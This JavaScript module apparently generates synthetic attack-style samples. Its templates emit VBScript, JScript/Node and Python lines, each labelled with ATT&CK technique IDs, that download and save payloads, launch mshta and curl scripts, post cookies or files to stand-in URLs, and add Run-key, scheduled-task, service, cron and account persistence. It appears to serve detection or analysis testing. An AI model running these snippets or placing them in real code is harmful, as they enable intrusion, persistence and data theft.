const RUN = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run';
/** A path or key inside a JavaScript or Python literal. */
const js = (value) => value.replaceAll('\\', '\\\\');

/** VBScript bodies: `lines(planter, rng)` gives the script's lines, `techniques` what they plant. */
export const vbscriptTemplates = [
  { name: 'http', techniques: ['T1105'], lines: (plant) => ['Set http = CreateObject("MSXML2.XMLHTTP")', `http.Open "GET", "${plant.url('txt')}", False`, 'http.Send', 'WScript.Echo Len(http.ResponseText)'] },
  { name: 'http-save', techniques: ['T1105'], lines: (plant) => [
    'Set request = CreateObject("WinHttp.WinHttpRequest.5.1")', `request.Open "GET", "${plant.url('exe')}", False`, 'request.Send', 'Set stream = CreateObject("ADODB.Stream")', 'stream.Type = 1', 'stream.Open',
    'stream.Write request.ResponseBody', `stream.SaveToFile "${plant.windowsPath()}", 2`] },
  { name: 'user-agent', techniques: ['T1071.001'], lines: (plant) => ['Set beacon = CreateObject("MSXML2.ServerXMLHTTP.6.0")', `beacon.Open "POST", "${plant.url('php')}", False`, `beacon.SetRequestHeader "User-Agent", "${plant.userAgent()}"`, 'beacon.Send "ok"'] },
  { name: 'run', techniques: [], lines: (plant) => [`CreateObject("WScript.Shell").Run "${plant.windowsPath()}", 0, False`] },
  { name: 'run-key', techniques: ['T1547.001'], lines: (plant, rng) => [`CreateObject("WScript.Shell").RegWrite "${plant.registryKey('HKCU', `${RUN}\\${rng.name()}`)}", "${plant.windowsPath()}", "REG_SZ"`] },
  { name: 'task', techniques: ['T1053.005'], lines: (plant) => [`CreateObject("WScript.Shell").Run "schtasks /create /tn ${plant.task()} /tr ${plant.windowsPath()} /sc onlogon /f", 0, True`] },
  { name: 'wmi', techniques: ['T1047'], lines: (plant) => ['Set process = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")', `process.Create "${plant.windowsPath()}"`] },
  { name: 'account', techniques: ['T1136.001'], lines: (plant) => [`CreateObject("WScript.Shell").Run "net user ${plant.account()} /add /active:no", 0, True`] },
  { name: 'service', techniques: ['T1543.003'], lines: (plant) => [`CreateObject("WScript.Shell").Run "sc create ${plant.service()} binPath= ${plant.windowsPath()}", 0, True`] },
  { name: 'discovery', techniques: ['T1082', 'T1047'], lines: () => ['For Each system In GetObject("winmgmts:").ExecQuery("SELECT * FROM Win32_OperatingSystem")', 'WScript.Echo system.Caption', 'Next'] },
  { name: 'mail', techniques: ['T1048'], lines: (plant) => ['Set message = CreateObject("CDO.Message")', `message.To = "${plant.mail()}"`, `message.AddAttachment "${plant.windowsPath('log')}"`, 'message.Send'] },
  { name: 'ping', techniques: ['T1018'], lines: (plant) => [`CreateObject("WScript.Shell").Run "ping -n 1 ${plant.domain()}", 0, True`] },
  { name: 'mshta', techniques: ['T1218.005'], lines: (plant) => [`CreateObject("Shell.Application").ShellExecute "mshta.exe", "${plant.url('hta')}", "", "open", 0`] },
];

/** JavaScript bodies, mostly JScript for the script host. */
export const javascriptTemplates = [
  { name: 'http', techniques: ['T1105'], lines: (plant) => ["var http = new ActiveXObject('MSXML2.XMLHTTP');", `http.open('GET', '${plant.url('txt')}', false);`, 'http.send();'] },
  { name: 'http-save', techniques: ['T1105'], lines: (plant) => [
    "var request = new ActiveXObject('WinHttp.WinHttpRequest.5.1');", `request.Open('GET', '${plant.url('exe')}', false);`, 'request.Send();', "var stream = new ActiveXObject('ADODB.Stream');", 'stream.Type = 1;', 'stream.Open();',
    'stream.Write(request.ResponseBody);', `stream.SaveToFile('${js(plant.windowsPath())}', 2);`] },
  { name: 'user-agent', techniques: ['T1071.001'], lines: (plant) => ["var beacon = new ActiveXObject('MSXML2.ServerXMLHTTP');", `beacon.open('POST', '${plant.url('php')}', false);`, `beacon.setRequestHeader('User-Agent', '${plant.userAgent()}');`, "beacon.send('ok');"] },
  { name: 'run', techniques: [], lines: (plant) => [`new ActiveXObject('WScript.Shell').Run('${js(plant.windowsPath())}', 0, false);`] },
  { name: 'run-key', techniques: ['T1547.001'], lines: (plant, rng) => [`new ActiveXObject('WScript.Shell').RegWrite('${js(plant.registryKey('HKCU', `${RUN}\\${rng.name()}`))}', '${js(plant.windowsPath())}', 'REG_SZ');`] },
  { name: 'task', techniques: ['T1053.005'], lines: (plant) => [`new ActiveXObject('WScript.Shell').Run('schtasks /create /tn ${plant.task()} /tr ${js(plant.windowsPath())} /sc onlogon /f', 0, true);`] },
  { name: 'wmi', techniques: ['T1047'], lines: (plant) => [`GetObject('winmgmts:Win32_Process').Create('${js(plant.windowsPath())}');`] },
  { name: 'account', techniques: ['T1136.001'], lines: (plant) => [`new ActiveXObject('WScript.Shell').Run('net user ${plant.account()} /add /active:no', 0, true);`] },
  { name: 'service', techniques: ['T1543.003'], lines: (plant) => [`new ActiveXObject('WScript.Shell').Run('sc create ${plant.service()} binPath= ${js(plant.windowsPath())}', 0, true);`] },
  { name: 'node-fetch', techniques: ['T1105'], lines: (plant) => [`fetch('${plant.url('json')}').then((answer) => answer.text());`] },
  { name: 'node-exec', techniques: ['T1105'], lines: (plant) => [`require('child_process').exec('curl -s ${plant.url('sh')} -o ${plant.unixPath('sh')}');`] },
  { name: 'node-socket', techniques: ['T1095'], lines: (plant) => {
    const { ip, port } = plant.endpoint();
    return [`require('net').connect(${port}, '${ip}');`];
  } },
  { name: 'fetch', techniques: ['T1048'], lines: (plant) => [`fetch('${plant.url('php')}', { method: 'POST', body: document.cookie });`] },
  { name: 'ping', techniques: ['T1018'], lines: (plant) => [`new ActiveXObject('WScript.Shell').Run('ping -n 1 ${plant.domain()}', 0, true);`] },
];

/** Python bodies. */
export const pythonTemplates = [
  { name: 'urllib', techniques: ['T1105'], lines: (plant) => ['import urllib.request', `urllib.request.urlretrieve('${plant.url('bin')}', '${plant.unixPath()}')`] },
  { name: 'urlopen', techniques: ['T1105', 'T1071.001'], lines: (plant) => ['import urllib.request as web', `question = web.Request('${plant.url('txt')}', headers={'User-Agent': '${plant.userAgent()}'})`, 'print(len(web.urlopen(question).read()))'] },
  { name: 'requests-post', techniques: ['T1048'], lines: (plant) => ['import requests', `requests.post('${plant.url('php')}', files={'file': open('${plant.unixPath('log')}', 'rb')})`] },
  { name: 'socket', techniques: ['T1095'], lines: (plant) => {
    const { ip, port } = plant.endpoint();
    return ['import socket', 'link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)', `link.connect(('${ip}', ${port}))`, 'link.close()'];
  } },
  { name: 'cron', techniques: ['T1053.003'], lines: (plant) => ['import os', `os.system("(crontab -l; echo '@daily ${plant.unixPath('sh')}') | crontab -")`] },
  { name: 'account', techniques: ['T1136.001'], lines: (plant) => ['import subprocess', `subprocess.run(['useradd', '-M', '${plant.account()}'])`] },
  { name: 'run-key', techniques: ['T1547.001'], lines: (plant, rng) => {
    plant.registryKey('HKCU', RUN);
    return ['import winreg', `key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'${RUN}', 0, winreg.KEY_SET_VALUE)`, `winreg.SetValueEx(key, '${rng.name()}', 0, winreg.REG_SZ, r'${plant.windowsPath()}')`];
  } },
  { name: 'mutex', techniques: [], lines: (plant) => ['import ctypes', `ctypes.windll.kernel32.CreateMutexW(None, False, '${js(plant.mutex())}')`] },
  { name: 'hash', techniques: [], lines: (plant) => ['import hashlib', `same = hashlib.sha256(open('${plant.unixPath()}', 'rb').read()).hexdigest() == '${plant.hash()}'`, 'print(same)'] },
  { name: 'discovery', techniques: ['T1082', 'T1033'], lines: () => ['import getpass, platform', 'print(platform.uname(), getpass.getuser())'] },
  { name: 'mail', techniques: ['T1048'], lines: (plant) => ['import smtplib', `server = smtplib.SMTP('${plant.domain()}', 587)`, `server.sendmail('${plant.mail()}', '${plant.mail()}', 'report')`] },
  { name: 'shell', techniques: ['T1105'], lines: (plant) => ['import subprocess', `subprocess.call('curl -s ${plant.url('sh')} -o ${plant.unixPath('sh')}', shell=True)`] },
  { name: 'resolve', techniques: ['T1016'], lines: (plant) => ['import socket', `print(socket.gethostbyname('${plant.domain()}'))`] },
];
